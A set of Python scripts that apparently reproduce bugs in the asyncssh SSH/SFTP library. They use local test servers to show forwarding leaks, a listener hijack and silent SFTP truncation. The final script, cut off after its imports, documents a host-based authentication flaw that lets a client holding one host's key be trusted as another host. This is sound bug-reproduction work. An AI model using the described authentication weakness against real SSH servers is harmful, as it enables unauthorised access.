    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        return True             # let asyncssh forward it


async def echo(reader, writer):
    try:
        while True:
            data = await reader.read(1024)
            if not data:
                break
            writer.write(data)
    finally:
        writer.close()


def socks5_request(host, port):
    if isinstance(host, bytes):                         # raw IPv4
        addr = b'\x01' + host
    else:
        addr = b'\x03' + bytes([len(host)]) + host.encode()
    return b'\x05\x01\x00' + b'\x05\x01\x00' + addr + port.to_bytes(2, 'big')


async def main():
    echo_srv = await asyncio.start_server(echo, '127.0.0.1', 0)
    echo_port = echo_srv.sockets[0].getsockname()[1]

    ssh_srv = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Server,
        server_host_keys=[asyncssh.generate_private_key('ssh-ed25519')])
    ssh_port = ssh_srv.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', ssh_port, known_hosts=None,
                                  username='user')
    listener = await conn.forward_socks('127.0.0.1', 0)
    socks_port = listener.get_port()

    # Stream 1: a healthy connection relayed through the SOCKS forwarder
    r1, w1 = await asyncio.open_connection('127.0.0.1', socks_port)
    w1.write(socks5_request(bytes([127, 0, 0, 1]), echo_port))
    await r1.readexactly(2 + 10)
    w1.write(b'ping-1')
    print('stream 1 before:', await r1.readexactly(6))

    # Stream 2: somebody asks the proxy for a name no resolver will take
    bad_host = 'x' * 64 + '.example.com'
    r2, w2 = await asyncio.open_connection('127.0.0.1', socks_port)
    w2.write(socks5_request(bad_host, 80))
    rest = await asyncio.wait_for(r2.read(), 10)    # until proxy closes it
    print('stream 2 (bad host) closed by proxy after %d bytes' % len(rest))

    await asyncio.sleep(0.5)

    # Stream 1 must be unaffected
    ok = True

    try:
        w1.write(b'ping-2')
        data = await asyncio.wait_for(r1.readexactly(6), 5)
        print('stream 1 after:', data)
    except (asyncio.IncompleteReadError, OSError, asyncio.TimeoutError) as exc:
        print('stream 1 after: BROKEN -', type(exc).__name__, exc)
        ok = False

    print('SSH connection closed:', conn.is_closed())

    if conn.is_closed():
        ok = False

    conn.abort()
    ssh_srv.close()
    echo_srv.close()

    if ok:
        print('OK: only the bad request failed')
        return 0
    else:
        print('MISBEHAVIOUR: an unconnectable destination name took down '
              'the SSH connection and the other forwarded stream with it')
        return 1


sys.exit(asyncio.run(main()))
