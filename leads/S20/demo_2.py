"""Tunneled direct-tcpip: destination connection leaks when the client goes away
while the open is in flight.

Expected by the property: all relayed sockets are released when their
connection ends, for connection loss at any point.  When the SSH connection a
direct-tcpip request came in on is lost while the destination is still being
connected, whatever gets connected afterwards must be closed again (this is
what commit 738ce30 "don't leak a forwarded destination connection made after
the SSH connection closed" did for SSHConnection.forward_connection() and
forward_unix_connection()).

Observed: the same flaw is still present in the sibling code path used when
SSHServer.connection_requested() returns an SSHClientConnection to forward
the request through ("jump host").  Server A asks upstream server B to open
the connection; the client of A disappears while B is still connecting; when
B's confirmation arrives, A creates the forwarder for a channel which is
already gone and drops it.  The channel on the upstream connection - and the
TCP connection from B to the destination behind it - stay open for as long as
the (shared, long-lived) upstream connection lives.  The destination never
sees EOF or a close.

Responsible code: asyncssh/connection.py
SSHServerConnection.forward_tunneled_connection() (and
forward_tunneled_unix_connection()): no check of self._transport after
"await conn.create_connection(...)", unlike forward_connection(); the
session it returns is thrown away by SSHChannel._finish_open_request()
("if not self._conn: raise ChannelOpenError") without being closed.
"""

import asyncio
import sys

import asyncssh


HOST_KEY = asyncssh.generate_private_key('ssh-ed25519')


class ServerB(asyncssh.SSHServer):
    """Upstream server: connects to the destination, but takes its time"""

    def connection_made(self, conn):
        self._conn = conn

    def begin_auth(self, username):
        return False

    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        async def slow_connect():
            await asyncio.sleep(0.5)        # e.g. a slow DNS lookup/connect
            return await self._conn.forward_connection(dest_host, dest_port)

        return slow_connect()


def make_server_a(upstream):
    class ServerA(asyncssh.SSHServer):
        """Jump host: forwards direct-tcpip requests through 'upstream'"""

        def begin_auth(self, username):
            return False

        def connection_requested(self, dest_host, dest_port,
                                 orig_host, orig_port):
            return upstream

    return ServerA


async def main():
    dest_accepted = asyncio.Event()
    dest_closed = asyncio.Event()

    async def dest(reader, writer):
        dest_accepted.set()

        try:
            await reader.read()             # returns at EOF / reset
        except OSError:
            pass

        dest_closed.set()
        writer.close()

    dest_srv = await asyncio.start_server(dest, '127.0.0.1', 0)
    dest_port = dest_srv.sockets[0].getsockname()[1]

    srv_b = await asyncssh.listen('127.0.0.1', 0, server_factory=ServerB,
                                  server_host_keys=[HOST_KEY])
    port_b = srv_b.sockets[0].getsockname()[1]

    upstream = await asyncssh.connect('127.0.0.1', port_b, known_hosts=None,
                                      username='jump')

    srv_a = await asyncssh.listen('127.0.0.1', 0,
                                  server_factory=make_server_a(upstream),
                                  server_host_keys=[HOST_KEY])
    port_a = srv_a.sockets[0].getsockname()[1]

    client = await asyncssh.connect('127.0.0.1', port_a, known_hosts=None,
                                    username='user')

    opener = asyncio.ensure_future(
        client.open_connection('127.0.0.1', dest_port))

    await asyncio.sleep(0.2)                # request is now in flight at B
    client.abort()                          # the client's connection is lost

    try:
        await opener
        print('client: open unexpectedly succeeded')
    except asyncssh.ChannelOpenError as exc:
        print('client: open failed as expected:', exc.reason)

    await asyncio.wait_for(dest_accepted.wait(), 10)
    print('destination: connection from B accepted (after the client left)')

    try:
        await asyncio.wait_for(dest_closed.wait(), 5)
        leaked = False
        print('destination: connection was closed again')
    except asyncio.TimeoutError:
        leaked = True
        print('destination: connection STILL OPEN 5 s after the client '
              'which asked for it is gone')

    upstream.abort()
    srv_a.close()
    srv_b.close()
    dest_srv.close()

    # Only now, with the upstream connection gone, is the socket released
    try:
        await asyncio.wait_for(dest_closed.wait(), 5)
    except asyncio.TimeoutError:
        pass

    if leaked:
        print('MISBEHAVIOUR: relayed socket not released when its '
              'connection ended')
        return 1
    else:
        print('OK')
        return 0


sys.exit(asyncio.run(main()))
