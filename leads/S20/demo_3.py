"""A remote-forwarding request which is still pending (and ends up refused)
hijacks connections of the listener already established on that port.

Expected by the property: a connection arriving on a remote (server side)
listener is relayed to the destination that listener was set up for, and a
forwarding request takes effect only once it has been granted.

Observed: the client has a remote port forwarding  P -> destination A.  It
then asks for  P -> destination B  again (a second forward_remote_port() for
the same listen address, e.g. by a reconnect/retry logic or a second user of
the connection).  The server refuses that, as the port is in use.  But from
the moment the request is sent until the refusal has arrived, every
connection the server reports for the *existing* listener on P is relayed by
the client to destination B - a destination no granted forwarding points to.
Afterwards connections go to A again.

Responsible code: asyncssh/connection.py SSHClientConnection.create_server()
(and create_unix_server()) since commit ed26630 "make a remote listener known
before the server is asked to listen": the new SSHTCPClientListener is put
into self._remote_listeners[listen_host, listen_port] *before* the
tcpip-forward request is made, replacing the established listener, and
_process_forwarded_tcpip_open() looks connections up in that table.  The
previous listener is only put back by _forget_listener() when the failure
reply is processed.
"""

import asyncio
import sys

import asyncssh


class Server(asyncssh.SSHServer):
    """Grants the first listen request.  Any later one takes a moment to
       decide (as address resolution and bind() do in a thread on a loaded
       host) and is refused, as a port already in use would be."""

    def __init__(self):
        self._requests = 0

    def begin_auth(self, username):
        return False

    def server_requested(self, listen_host, listen_port):
        self._requests += 1

        if self._requests == 1:
            return True

        async def refuse_later():
            await asyncio.sleep(0.5)
            return False

        return refuse_later()


def make_dest(tag):
    async def dest(reader, writer):
        writer.write(tag)
        writer.close()

    return dest


async def fetch(port):
    reader, writer = await asyncio.open_connection('127.0.0.1', port)
    data = await asyncio.wait_for(reader.read(), 10)
    writer.close()
    return data


async def main():
    srv_a = await asyncio.start_server(make_dest(b'A'), '127.0.0.1', 0)
    srv_b = await asyncio.start_server(make_dest(b'B'), '127.0.0.1', 0)
    port_a = srv_a.sockets[0].getsockname()[1]
    port_b = srv_b.sockets[0].getsockname()[1]

    ssh_srv = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Server,
        server_host_keys=[asyncssh.generate_private_key('ssh-ed25519')])
    ssh_port = ssh_srv.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', ssh_port, known_hosts=None,
                                  username='user')

    listener = await conn.forward_remote_port('127.0.0.1', 0,
                                              '127.0.0.1', port_a)
    port = listener.get_port()

    before = await fetch(port)
    print('granted forwarding: port %d -> destination A' % port)
    print('connection before the second request reached:', before)

    second = asyncio.ensure_future(
        conn.forward_remote_port('127.0.0.1', port, '127.0.0.1', port_b))

    await asyncio.sleep(0.1)                # second request now pending
    during = await fetch(port)
    print('connection while the second request is pending reached:', during)

    try:
        await second
        print('second request was granted?!')
    except asyncssh.ChannelListenError as exc:
        print('second request refused:', exc)

    after = await fetch(port)
    print('connection after the refusal reached:', after)

    conn.abort()
    ssh_srv.close()
    srv_a.close()
    srv_b.close()

    if before == during == after == b'A':
        print('OK: all connections went where the granted forwarding points')
        return 0
    else:
        print('MISBEHAVIOUR: a connection on the established listener was '
              'relayed to the destination of a forwarding never granted')
        return 1


sys.exit(asyncio.run(main()))
