#!/usr/bin/env python
"""C12 demo 5 (minor): SFTPClientFile.read_parallel() on a file opened with
block_size=0 yields nothing at all and ends normally.

SFTPClient.open(block_size=0) is accepted (the library itself opens files
that way; read() and write() treat 0 like None = "do not split").  But
read_parallel() hands the 0 to _SFTPFileReader, whose _start_tasks() then
issues requests of min(bytes_left, 0) == 0 bytes that never advance.  The
stock server answers a 0-byte read with FX_EOF, which ends the iteration:
the caller sees an empty, "successful" result for a non-empty file.  (With
a server that answers a 0-byte read with 0 bytes of data it would spin
forever instead.)

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import shutil
import sys

import asyncssh

BASE = '/tmp/hunt_H12/_demo_5'
SIZE = 100000


class _SSHServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


class StockServer(asyncssh.SFTPServer):
    def __init__(self, chan):
        super().__init__(chan, chroot=os.path.join(BASE, 'root').encode())


async def main():
    shutil.rmtree(BASE, ignore_errors=True)
    root = os.path.join(BASE, 'root')
    os.makedirs(root)

    data = bytes(range(256)) * (SIZE // 256) + bytes(SIZE % 256)

    with open(os.path.join(root, 'src'), 'wb') as f:
        f.write(data)

    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_SSHServer,
                                   server_host_keys=[key],
                                   sftp_factory=StockServer)
    port = server.sockets[0].getsockname()[1]
    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, username='user',
                         known_hosts=None, client_keys=None), 20)

    problems = []

    async def collect(f):
        result = bytearray()

        async for offset, block in await f.read_parallel():
            if len(result) < offset + len(block):
                result.extend(bytes(offset + len(block) - len(result)))

            result[offset:offset+len(block)] = block

        return bytes(result)

    try:
        async with conn.start_sftp_client() as sftp:
            async with sftp.open('src', 'rb', block_size=0) as f:
                whole = await asyncio.wait_for(f.read(), 20)
                assert whole == data, 'read() with block_size=0 broken?'

                try:
                    got = await asyncio.wait_for(collect(f), 20)
                except asyncio.TimeoutError:
                    problems.append('read_parallel() with block_size=0 hung')
                except (OSError, ValueError, TypeError,
                        asyncssh.Error) as exc:
                    print(f'read_parallel() raised {exc!r} (fine)')
                else:
                    if got != data:
                        problems.append(
                            f'read_parallel() on a {SIZE}-byte file opened '
                            f'with block_size=0 ended normally after '
                            f'yielding {len(got)} bytes (read() on the same '
                            f'object returns all {len(whole)})')
    finally:
        conn.close()
        server.close()

    shutil.rmtree(BASE, ignore_errors=True)

    if problems:
        print('VIOLATION of C12:')

        for problem in problems:
            print('  -', problem)

        return 1

    print('OK: no violation')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 120)))
    except asyncio.TimeoutError:
        print('VIOLATION of C12: operation hung')
        sys.exit(2)
