#!/usr/bin/env python
"""C12 demo 3: the SFTP server acknowledges a PARTIAL write with FX_OK, so
put() and SFTPClientFile.write() report success for a truncated file.

SFTPServer.open() opens files unbuffered (buffering=0), so SFTPServer.write()
is one raw write(2) whose return value - the number of bytes really written -
may be smaller than len(data) (file size limit, full disk, quota ...).
SFTPServerHandler._process_write() (and _process_copy_data()) ignore that
return value and answer FX_OK.  SFTP has no "short write" reply, so the
client cannot know and put() returns normally.

Here the unmodified SFTPServer is used and the partial write is provoked
with RLIMIT_FSIZE: the last block of the upload straddles the limit, the
kernel writes the part that fits and returns a short count (no error).

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import resource
import shutil
import signal
import sys

import asyncssh

BASE = '/tmp/hunt_H12/_demo_3'
SIZE = 150000
LIMIT = 140000
BLOCK = 65536       # blocks [0,65536) [65536,131072) [131072,150000)


class _SSHServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


class StockServer(asyncssh.SFTPServer):
    """Unmodified SFTPServer, just rooted in the scratch directory"""

    def __init__(self, chan):
        super().__init__(chan, chroot=os.path.join(BASE, 'root').encode())


async def _start(sftp_factory):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_SSHServer,
                                   server_host_keys=[key],
                                   sftp_factory=sftp_factory)
    port = server.sockets[0].getsockname()[1]
    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, username='user',
                         known_hosts=None, client_keys=None), 20)
    return server, conn


async def _attempt(coro):
    try:
        await asyncio.wait_for(coro, 30)
        return None
    except asyncio.TimeoutError:
        raise
    except (OSError, asyncssh.Error) as exc:
        return exc


async def main():
    shutil.rmtree(BASE, ignore_errors=True)
    root = os.path.join(BASE, 'root')
    os.makedirs(root)

    data = bytes(range(256)) * (SIZE // 256) + bytes(SIZE % 256)
    src = os.path.join(BASE, 'src')

    with open(src, 'wb') as f:
        f.write(data)

    problems = []
    server, conn = await _start(StockServer)

    # A write beyond the limit must give EFBIG, not kill the process
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)

    try:
        async with conn.start_sftp_client() as sftp:
            resource.setrlimit(resource.RLIMIT_FSIZE, (LIMIT, hard))

            try:
                exc = await _attempt(sftp.put(src, 'put_dst', sparse=False,
                                              block_size=BLOCK))
                put_size = os.path.getsize(os.path.join(root, 'put_dst'))

                written = None
                wexc = None

                try:
                    async with sftp.open('write_dst', 'wb',
                                         block_size=BLOCK) as f:
                        written = await asyncio.wait_for(f.write(data), 30)
                except (OSError, asyncssh.Error) as e:
                    wexc = e

                write_size = os.path.getsize(os.path.join(root, 'write_dst'))
            finally:
                resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))

            if exc is None:
                if put_size != SIZE:
                    problems.append(
                        f'put() of {SIZE} bytes to a server that could only '
                        f'store {LIMIT} reported success; the remote file '
                        f'has {put_size} bytes')
            else:
                print(f'put() raised {exc!r} (fine)')

            if wexc is None:
                if write_size != SIZE:
                    problems.append(
                        f'SFTPClientFile.write() returned {written} and the '
                        f'file was closed without error, but the remote '
                        f'file has {write_size} bytes')
            else:
                print(f'write() raised {wexc!r} (fine)')
    finally:
        conn.close()
        server.close()

    shutil.rmtree(BASE, ignore_errors=True)

    if problems:
        print('VIOLATION of C12:')

        for problem in problems:
            print('  -', problem)

        return 1

    print('OK: no violation')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 120)))
    except asyncio.TimeoutError:
        print('VIOLATION of C12: operation hung')
        sys.exit(2)
