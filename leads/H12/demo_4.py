#!/usr/bin/env python
"""C12 demo 4: a block for which the server returned NO data is silently
replaced by zero bytes.

_SFTPParallelIO.iter() re-requests the remainder of a short read only
"if count and count < size", so a reply carrying zero bytes is dropped and
never retried; and an FX_EOF reply just stops the issue of new requests.
Neither case is checked afterwards: _SFTPFileReader.run() pads the gap with
b'\\0' when a later block arrives, and get() (default sparse=True) leaves a
hole in the local file.  Both report success.

The server below is the stock one except that it answers exactly ONE read
request (the block at offset 4096 of a 3-block file) with

  variant 'empty': an FXP_DATA reply holding zero bytes (the extreme short
                   read; the data is there when asked again)
  variant 'eof'  : FX_EOF, although the blocks after it exist (answers
                   arrive while later requests are already outstanding)

Expected by the property: the exact bytes, or an error.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import shutil
import sys

import asyncssh
from asyncssh import sftp as sftpmod

BASE = '/tmp/hunt_H12/_demo_4'
BLOCK = 4096
SIZE = 3 * BLOCK
FAULT = {'variant': None, 'armed': False}


class _SSHServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


class StockServer(asyncssh.SFTPServer):
    def __init__(self, chan):
        super().__init__(chan, chroot=os.path.join(BASE, 'root').encode())


class FaultyReadHandler(sftpmod.SFTPServerHandler):
    """Server handler answering one read of offset 4096 without data"""

    async def _faulty_read(self, packet):
        if FAULT['armed']:
            probe = sftpmod.SSHPacket(packet.get_remaining_payload())
            probe.get_string()
            offset = probe.get_uint64()

            if offset == BLOCK:
                FAULT['armed'] = False

                if FAULT['variant'] == 'empty':
                    return b'', False
                else:
                    raise sftpmod.SFTPEOFError

        return await sftpmod.SFTPServerHandler._process_read(self, packet)

    _packet_handlers = dict(sftpmod.SFTPServerHandler._packet_handlers)
    _packet_handlers[sftpmod.FXP_READ] = _faulty_read


# run_sftp_server() instantiates the handler class by this module-level name
sftpmod.SFTPServerHandler = FaultyReadHandler


async def _start(sftp_factory):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_SSHServer,
                                   server_host_keys=[key],
                                   sftp_factory=sftp_factory)
    port = server.sockets[0].getsockname()[1]
    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, username='user',
                         known_hosts=None, client_keys=None), 20)
    return server, conn


def _describe(got, data):
    if got[BLOCK:2*BLOCK] == bytes(BLOCK) and \
            got[:BLOCK] == data[:BLOCK] and got[2*BLOCK:] == data[2*BLOCK:]:
        return f'{len(got)} bytes, bytes {BLOCK}..{2*BLOCK} are all zero'
    else:
        return f'{len(got)} bytes, differing from the source'


async def main():
    shutil.rmtree(BASE, ignore_errors=True)
    root = os.path.join(BASE, 'root')
    os.makedirs(root)

    data = bytes((i * 7 + 1) % 255 + 1 for i in range(SIZE))    # no zeros

    with open(os.path.join(root, 'src'), 'wb') as f:
        f.write(data)

    problems = []
    server, conn = await _start(StockServer)

    try:
        async with conn.start_sftp_client() as sftp:
            # Sanity: without the fault everything is fine
            async with sftp.open('src', 'rb', block_size=BLOCK) as f:
                assert await asyncio.wait_for(f.read(), 20) == data

            for variant in ('empty', 'eof'):
                FAULT['variant'] = variant

                # file read to EOF and read of an explicit size
                for label, size in (('read()', -1), (f'read({SIZE})', SIZE)):
                    FAULT['armed'] = True

                    try:
                        async with sftp.open('src', 'rb', block_size=BLOCK,
                                             max_requests=4) as f:
                            got = await asyncio.wait_for(f.read(size), 20)
                    except (OSError, asyncssh.Error) as exc:
                        print(f'{variant}: {label} raised {exc!r} (fine)')
                    else:
                        if got != data:
                            problems.append(
                                f'{variant}: SFTPClientFile.{label} returned '
                                f'normally with {_describe(got, data)}')

                # get() with default arguments
                FAULT['armed'] = True
                dst = os.path.join(BASE, f'got_{variant}')

                try:
                    await asyncio.wait_for(
                        sftp.get('src', dst, block_size=BLOCK,
                                 max_requests=4), 20)
                except (OSError, asyncssh.Error) as exc:
                    print(f'{variant}: get() raised {exc!r} (fine)')
                else:
                    with open(dst, 'rb') as f:
                        got = f.read()

                    if got != data:
                        problems.append(
                            f'{variant}: get() reported success, local file '
                            f'has {_describe(got, data)}')
    finally:
        FAULT['armed'] = False
        conn.close()
        server.close()

    shutil.rmtree(BASE, ignore_errors=True)

    if problems:
        print('VIOLATION of C12:')

        for problem in problems:
            print('  -', problem)

        return 1

    print('OK: no violation')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 120)))
    except asyncio.TimeoutError:
        print('VIOLATION of C12: operation hung')
        sys.exit(2)
