#!/usr/bin/env python
"""C12 demo 2: get() silently produces an EMPTY file when the server's
attributes do not carry a size.

The size field of SFTP ATTRS is optional (it is only present when the
SSH_FILEXFER_ATTR_SIZE flag is set).  SFTPClient._copy() passes
"srcattrs.size or 0" to _SFTPFileCopier as the number of bytes to transfer,
so "size unknown" is treated as "file is empty": no read request is ever
sent, the destination is created empty and get() returns normally.

  A) STAT/LSTAT replies without a size        -> get('file') gives 0 bytes
  B) only the READDIR entries lack the size   -> get('dir', recurse=True)
     (STAT is complete)                          gives 0-byte files

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import shutil
import sys

import asyncssh
from asyncssh import SFTPAttrs, SFTPName

BASE = '/tmp/hunt_H12/_demo_2'
SIZE = 50000
STRIP = {'stat': False, 'readdir': False}
READS = {'count': 0}


class _SSHServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


class NoSizeServer(asyncssh.SFTPServer):
    """Stock server which leaves the optional size out of some replies"""

    def __init__(self, chan):
        super().__init__(chan, chroot=os.path.join(BASE, 'root').encode())

    @staticmethod
    def _strip(result):
        attrs = SFTPAttrs.from_local(result)
        attrs.size = None
        return attrs

    def stat(self, path):
        result = super().stat(path)
        return self._strip(result) if STRIP['stat'] else result

    def lstat(self, path):
        result = super().lstat(path)
        return self._strip(result) if STRIP['stat'] else result

    async def scandir(self, path):
        async for name in super().scandir(path):
            if STRIP['readdir']:
                name = SFTPName(name.filename, name.longname,
                                SFTPAttrs(permissions=name.attrs.permissions,
                                          uid=name.attrs.uid,
                                          gid=name.attrs.gid,
                                          atime=name.attrs.atime,
                                          mtime=name.attrs.mtime))

            yield name

    def read(self, file_obj, offset, size):
        READS['count'] += 1
        return super().read(file_obj, offset, size)


async def _start(sftp_factory):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_SSHServer,
                                   server_host_keys=[key],
                                   sftp_factory=sftp_factory)
    port = server.sockets[0].getsockname()[1]
    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, username='user',
                         known_hosts=None, client_keys=None), 20)
    return server, conn


async def _attempt(coro):
    try:
        await asyncio.wait_for(coro, 30)
        return None
    except asyncio.TimeoutError:
        raise
    except (OSError, asyncssh.Error) as exc:
        return exc


async def main():
    shutil.rmtree(BASE, ignore_errors=True)
    root = os.path.join(BASE, 'root')
    local = os.path.join(BASE, 'local')
    os.makedirs(os.path.join(root, 'dir'))
    os.makedirs(local)

    data = bytes(range(256)) * (SIZE // 256) + bytes(SIZE % 256)

    for name in ('file', 'dir/inner'):
        with open(os.path.join(root, name), 'wb') as f:
            f.write(data)

    problems = []
    server, conn = await _start(NoSizeServer)

    try:
        async with conn.start_sftp_client() as sftp:
            # Sanity: with complete attributes everything works
            exc = await _attempt(sftp.get('file', os.path.join(local, 'ok')))
            with open(os.path.join(local, 'ok'), 'rb') as f:
                assert exc is None and f.read() == data, 'plain get() broken?'

            # ---- A: no size in STAT/LSTAT
            STRIP['stat'] = True

            for sparse in (False, True):
                dst = os.path.join(local, f'a_sparse_{sparse}')
                READS['count'] = 0
                exc = await _attempt(sftp.get('file', dst, sparse=sparse))

                if exc is None:
                    with open(dst, 'rb') as f:
                        got = f.read()

                    if got != data:
                        problems.append(
                            f'A: get(sparse={sparse}) of a {SIZE}-byte file '
                            f'whose STAT reply has no size reported success '
                            f'with a {len(got)}-byte destination '
                            f'({READS["count"]} read requests were sent)')
                else:
                    print(f'A: get(sparse={sparse}) raised {exc!r} (fine)')

            STRIP['stat'] = False

            # ---- B: no size in the READDIR entries only
            STRIP['readdir'] = True
            dst = os.path.join(local, 'b_dir')
            exc = await _attempt(sftp.get('dir', dst, recurse=True,
                                          sparse=False))

            if exc is None:
                with open(os.path.join(dst, 'inner'), 'rb') as f:
                    got = f.read()

                if got != data:
                    problems.append(
                        f'B: get(recurse=True, sparse=False) of a directory '
                        f'whose READDIR entries have no size reported '
                        f'success, but dir/inner has {len(got)} of '
                        f'{SIZE} bytes')
            else:
                print(f'B: get(recurse=True) raised {exc!r} (fine)')
    finally:
        conn.close()
        server.close()

    shutil.rmtree(BASE, ignore_errors=True)

    if problems:
        print('VIOLATION of C12:')

        for problem in problems:
            print('  -', problem)

        return 1

    print('OK: no violation')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 120)))
    except asyncio.TimeoutError:
        print('VIOLATION of C12: operation hung')
        sys.exit(2)
