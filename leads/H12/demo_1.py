#!/usr/bin/env python
"""C12 demo 1: SFTPClient.copy() through the server side "copy-data"
extension reports success for a truncated destination.

SFTPServerHandler._process_copy_data() stops (and answers FX_OK) as soon as
one SFTPServer.read() call returns fewer bytes than it asked for, even when
the client gave an explicit length.  A short read is not EOF, so

  A) with an SFTPServer whose read() returns short reads (perfectly legal,
     and handled correctly by get()), copy() leaves only the first short
     read in the destination and reports success;

  B) when the source ends before its announced size in a NON-sparse copy,
     copy() reports success although get() of the very same file raises
     "Unexpected EOF during file copy".

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import shutil
import sys

import asyncssh
from asyncssh import SFTPAttrs

BASE = '/tmp/hunt_H12/_demo_1'
SIZE = 100000
MAX_READ = 1000
OVERSTATE = 5000


class _SSHServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False                    # no authentication needed


class ShortReadServer(asyncssh.SFTPServer):
    """Stock server, except that a read never returns more than 1000 bytes"""

    def __init__(self, chan):
        super().__init__(chan, chroot=os.path.join(BASE, 'a').encode())

    def read(self, file_obj, offset, size):
        return super().read(file_obj, offset, min(size, MAX_READ))


class OverstatedSizeServer(asyncssh.SFTPServer):
    """Stock server, except that stat announces 5000 bytes more than the
       file has (what a client sees when the file is truncated between
       its stat and its reads)"""

    def __init__(self, chan):
        super().__init__(chan, chroot=os.path.join(BASE, 'b').encode())

    @staticmethod
    def _fix(result):
        attrs = SFTPAttrs.from_local(result)

        if attrs.size:
            attrs.size += OVERSTATE

        return attrs

    def stat(self, path):
        return self._fix(super().stat(path))

    def lstat(self, path):
        return self._fix(super().lstat(path))


async def _start(sftp_factory):
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_SSHServer,
                                   server_host_keys=[key],
                                   sftp_factory=sftp_factory)
    port = server.sockets[0].getsockname()[1]
    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, username='user',
                         known_hosts=None, client_keys=None), 20)
    return server, conn


async def _attempt(coro):
    """Return None on success or the exception the operation raised"""

    try:
        await asyncio.wait_for(coro, 30)
        return None
    except asyncio.TimeoutError:
        raise
    except (OSError, asyncssh.Error) as exc:
        return exc


async def main():
    shutil.rmtree(BASE, ignore_errors=True)
    problems = []
    data = bytes(range(256)) * (SIZE // 256) + bytes(SIZE % 256)

    for sub in ('a', 'b'):
        os.makedirs(os.path.join(BASE, sub))

        with open(os.path.join(BASE, sub, 'src'), 'wb') as f:
            f.write(data)

    # ---- A: short reads inside copy-data
    server, conn = await _start(ShortReadServer)

    try:
        async with conn.start_sftp_client() as sftp:
            assert sftp.supports_remote_copy

            # Sanity: the client side copes with this server
            exc = await _attempt(sftp.get('src', os.path.join(BASE, 'a', 'got'),
                                          sparse=False))
            with open(os.path.join(BASE, 'a', 'got'), 'rb') as f:
                assert exc is None and f.read() == data, 'get() broken?'

            for sparse in (False, True):
                name = f'dst_sparse_{sparse}'
                exc = await _attempt(sftp.copy('src', name, sparse=sparse))

                if exc is None:
                    with open(os.path.join(BASE, 'a', name), 'rb') as f:
                        got = f.read()

                    if got != data:
                        problems.append(
                            f'A: copy(sparse={sparse}) from a server whose '
                            f'reads are short reported success, but the '
                            f'destination has {len(got)} of {len(data)} '
                            f'bytes')
                else:
                    print(f'A: copy(sparse={sparse}) raised {exc!r} (fine)')
    finally:
        conn.close()
        server.close()

    # ---- B: source ends before its announced size, non-sparse
    server, conn = await _start(OverstatedSizeServer)

    try:
        async with conn.start_sftp_client() as sftp:
            exc = await _attempt(sftp.get('src', os.path.join(BASE, 'b', 'got'),
                                          sparse=False))
            print(f'B: get(sparse=False) of a file {OVERSTATE} bytes shorter '
                  f'than announced -> {exc!r}')

            exc = await _attempt(sftp.copy('src', 'dst', sparse=False))

            if exc is None:
                size = os.path.getsize(os.path.join(BASE, 'b', 'dst'))
                problems.append(
                    f'B: copy(sparse=False) of a file announced as '
                    f'{SIZE + OVERSTATE} bytes that ends after {SIZE} '
                    f'reported success (destination has {size} bytes); '
                    f'no "unexpected EOF" error')
            else:
                print(f'B: copy(sparse=False) raised {exc!r} (fine)')
    finally:
        conn.close()
        server.close()

    shutil.rmtree(BASE, ignore_errors=True)

    if problems:
        print('VIOLATION of C12:')

        for problem in problems:
            print('  -', problem)

        return 1

    print('OK: no violation')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 120)))
    except asyncio.TimeoutError:
        print('VIOLATION of C12: operation hung')
        sys.exit(2)
