#!/usr/bin/env python
"""C05 demo 1: host-based auth - keys trusted for one client host stay trusted
for every other client host named later on the same connection.

Server: known_client_hosts lists   hostA -> KA   and   hostB -> KB,
trust_client_host=True (the name in the request selects the known_hosts
entry, the key must be the one recorded for that name), and the application
only lets user "alice" in from hostA (validate_host_based_user).

The attacker owns hostB's key KB only.

 control : one request claiming client_host=hostA signed with KB
           -> must be refused (KB is not hostA's key)             [works]
 attack  : request 1 claims hostB with KB (refused by the application:
           alice may only come from hostA), request 2 on the SAME connection
           claims hostA, again signed with KB
           -> must be refused as well, but is accepted, because
              SSHConnection._match_known_hosts() *adds* the keys of every
              host looked up so far to self._trusted_host_keys.

Exit status 0 = behaves as the property demands, 1 = violation shown.
"""

import asyncio
import sys

